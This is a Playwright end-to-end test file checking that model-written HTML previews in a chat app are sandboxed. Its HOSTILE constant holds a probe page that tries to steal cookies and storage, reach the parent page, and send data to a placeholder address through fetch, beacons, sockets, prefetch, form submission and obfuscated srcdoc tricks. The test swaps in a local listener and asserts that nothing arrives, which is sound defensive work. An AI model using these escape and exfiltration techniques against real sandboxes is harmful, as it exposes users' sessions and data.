"""Code that draws something, drawn on the page; what it runs reaches nothing else."""

import socket

from playwright.sync_api import Browser, FrameLocator, expect

from tests.e2e.accessibility import complaints
from tests.e2e.chat import Chat
from tests.e2e.conftest import OpenChat
from tests.e2e.server import Server
from tests.standin.behaviours import Reply
from tests.standin.server import Standin

DRAWINGS = """
```mermaid
graph LR
  Night --> Copy
```

```svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 300"><text y="20">A switch</text></svg>
```

```mermaid
graph LR
  Night --
```

```python
print()
```

> [!WARNING]
> The copy is **old**.
"""

# Each is tried by a page that a model wrote; it ends with what became of each.
HOSTILE = r"""
```html
<link rel="preconnect" href="ADDRESS"><link rel="prefetch" href="ADDRESS/prefetched">
<link rel="stylesheet" href="ADDRESS/sheet"><img src="ADDRESS/image">
<style>@font-face { font-family: f; src: url(ADDRESS/font) } p { font-family: f }</style>
<iframe src="ADDRESS/frame"></iframe><object data="ADDRESS/object"></object>
<script type="speculationrules">{"prefetch": [{"urls": ["ADDRESS/speculation"], "eagerness": "immediate"}]}</script>
<link rel="dns-prefetch" href="ADDRESS"><form action="ADDRESS/form"><input name="secret"></form><p>Text</p>
<script>(async () => {
const inFrame = (act) => new Promise((done, fail) => {
  const frame = document.createElement("iframe");
  const page = "<script>parent.postMessage(typeof RTCPeerConnection, '*')<\/script>";
  addEventListener("message", ({ data }) => (data === "function" ? done() : fail()), { once: true });
  document.body.append(frame);
  act(frame, page);
  setTimeout(fail, 300);
});
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  page: () => parent.document.title,
  address: () => parent.location.href,
  fetch: () => fetch("ADDRESS/fetched", { mode: "no-cors" }),
  own: () => fetch("/settings/"),
  beacon: () => navigator.sendBeacon("ADDRESS/beacon", "x") && Promise.reject(),
  image: () => new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail }).src = "ADDRESS/pixel"),
  script: () => import("ADDRESS/module"),
  socket: () => new Promise((done, fail) => Object.assign(new WebSocket("ws://HOST/"), { onopen: done, onerror: fail })),
  events: () => new Promise((done, fail) => Object.assign(new EventSource("ADDRESS/events"), { onopen: done, onerror: fail })),
  worker: () => new Promise((done, fail) => Object.assign(new Worker("data:text/javascript,postMessage(1)"), { onmessage: done, onerror: fail })),
  window: () => open("ADDRESS/window") ?? Promise.reject(),
  call: () => RTCPeerConnection,
  callOfFrame: () => document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection,
  callOfPage: () => inFrame((frame, page) => (frame["src" + "doc"] = page)),
  callOfAttribute: () => inFrame((frame, page) => frame.setAttribute("src" + "doc", page)),
  callOfNode: () => inFrame((frame, page) => {
    const node = document.createAttribute("src" + "doc");
    node.value = page;
    frame.setAttributeNode(node);
  }),
  callOfMarkup: () => inFrame((frame, page) => (document.body.innerHTML += `<iframe src${"DOC"}="${page}"></iframe>`)),
  callOfStyles: () => XSLTProcessor,
};
const add = (link) => document.head.append(Object.assign(link, { rel: "preconnect", href: "ADDRESS" }));
add(document.createElement("link"));
add(document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"));
document.body.insertAdjacentHTML("beforeend", '<link rel="pre&#99;onnect" href="ADDRESS">');
const rules = document.createElement("script");
Object.assign(rules, { type: "speculationrules", textContent: '{"prefetch": [{"urls": ["ADDRESS/rule"], "eagerness": "immediate"}]}' });
document.head.append(rules);
const reached = [];
for (const [name, act] of Object.entries(tries)) {
  try { await act(); reached.push(name); } catch { }
}
document.forms[0].submit();
document.querySelector("p").textContent = `reached: ${reached}`;
})()</script>
```
"""


def drawing(chat: Chat, number: int = 0) -> FrameLocator:
    """What stands in a preview."""
    return chat.log.locator("iframe").nth(number).content_frame


def test_a_diagram_a_picture_and_a_page_are_drawn_and_notes_stand_out(
    open_chat: OpenChat, standin: Standin
) -> None:
    """Mermaid is loaded with its first diagram; a wrong one says what is wrong with it."""
    chat = open_chat()
    loaded: list[str] = []
    chat.page.on("request", lambda request: loaded.append(request.url))
    standin.then(Reply(DRAWINGS))
    chat.ask("Draw the switch.")
    expect(chat.button("Preview")).to_have_count(3)
    expect(chat.log.locator(".alert")).to_contain_text("The copy is old.")
    assert not [one for one in loaded if "mermaid" in one]
    chat.button("Preview").first.click()
    expect(drawing(chat).get_by_text("Night")).to_be_visible()
    assert [one for one in loaded if "mermaid" in one]
    chat.button("Preview").first.click()
    expect(drawing(chat, 1).get_by_text("A switch")).to_be_visible()
    picture = chat.log.locator("iframe").nth(1)
    expect(picture).not_to_have_css("height", "128px")
    chat.button("Preview").click()
    expect(drawing(chat, 2).get_by_text("Parse error")).to_be_visible()
    assert complaints(chat.page) == []
    chat.button("Show code").first.click()
    expect(chat.log.get_by_text("Night --> Copy")).to_be_visible()
    expect(chat.log.locator("iframe")).to_have_count(2)


def test_a_page_that_a_model_wrote_reaches_neither_the_chat_nor_the_network(
    browser: Browser, server: Server, open_chat: OpenChat, standin: Standin
) -> None:
    """Nor by leading its frame elsewhere."""
    with (
        socket.create_server(("127.0.0.1", 0)) as listener,
        socket.socket(type=socket.SOCK_DGRAM) as datagrams,
        browser.new_context(base_url=server.url, storage_state=server.state) as context,
    ):
        host = "127.0.0.1:{}".format(listener.getsockname()[1])
        datagrams.bind(listener.getsockname())
        chat = open_chat(page=context.new_page())
        page = HOSTILE.replace("ADDRESS", f"http://{host}").replace("HOST", host)
        standin.then(Reply(page))
        chat.ask("Draw it.")
        chat.button("Preview").click()
        expect(drawing(chat).get_by_text("reached:")).to_have_text("reached: ")
        chat.page.frames[1].evaluate(f"location = 'http://{host}/left'")
        chat.ask("And now?")
        for one in (listener, datagrams):
            one.setblocking(False)  # noqa: FBT003
        for receive in (listener.accept, lambda: datagrams.recv(100)):
            try:
                got = receive()
            except BlockingIOError:
                continue
            raise AssertionError(got)
